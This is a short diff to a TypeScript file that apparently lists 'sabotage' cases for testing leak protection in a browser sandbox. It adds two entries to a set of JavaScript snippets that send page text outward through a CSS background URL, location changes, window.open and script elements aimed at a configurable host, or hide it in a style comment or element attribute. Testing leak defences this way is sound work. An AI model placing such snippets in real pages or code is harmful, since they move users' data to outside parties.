@@ -37,6 +37,9 @@ export const SABOTAGES: Readonly<Record<string, Sabotage>> = {
   "script element": ask("script", "src"),
   "style url": ({ http }) =>
     `(text) => { document.body.style.background = "url(${http}/?" + encodeURIComponent(text) + ")"; }`,
+  "style text": () =>
+    `(text) => { const one = document.querySelector("style.leak") ?? document.head.appendChild(document.createElement("style")); one.className = "leak"; one.textContent = "/*" + text + "*/"; }`,
+  "an attribute": () => `(text) => { document.documentElement.part = text; }`,
   location: ({ http }) => `(text) => { location.href = "${http}/?" + encodeURIComponent(text); }`,
   "window.open": ({ http }) => `(text) => { window.open("${http}/?" + encodeURIComponent(text)); }`,
   "anchor click": ({ http }) =>
